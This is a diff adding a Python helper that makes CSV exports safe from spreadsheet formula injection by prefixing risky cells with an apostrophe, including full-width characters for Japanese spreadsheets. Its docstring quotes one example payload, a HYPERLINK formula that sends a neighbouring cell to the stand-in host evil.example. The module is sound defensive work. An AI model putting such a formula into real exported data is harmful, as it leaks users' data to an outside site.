@@ -1,0 +1,31 @@
+"""Every CSV the system writes goes through here.
+
+A spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` (or a tab or CR, which some
+programs strip first) as a formula: `=HYPERLINK("http://evil.example/?"&E2,"詳細")` in a name
+would send the row next to it to another site. Such a cell gets a leading apostrophe
+(OWASP's rule), which the spreadsheet shows as text. The full-width forms are included: a
+Japanese spreadsheet may read them as the ASCII ones.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Iterable
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
+
+
+def safe_cell(value: object) -> str:
+    text = "" if value is None else str(value)
+    return "'" + text if text.startswith(FORMULA_STARTS) else text
+
+
+def csv_bytes(header: Iterable[str], rows: Iterable[Iterable[object]]) -> bytes:
+    """UTF-8 with a byte order mark (so Excel opens the Japanese correctly), CRLF, every cell made safe."""
+    buffer = io.StringIO()
+    writer = csv.writer(buffer, lineterminator="\r\n")
+    writer.writerow([safe_cell(h) for h in header])
+    for row in rows:
+        writer.writerow([safe_cell(cell) for cell in row])
+    return ("\ufeff" + buffer.getvalue()).encode("utf-8")
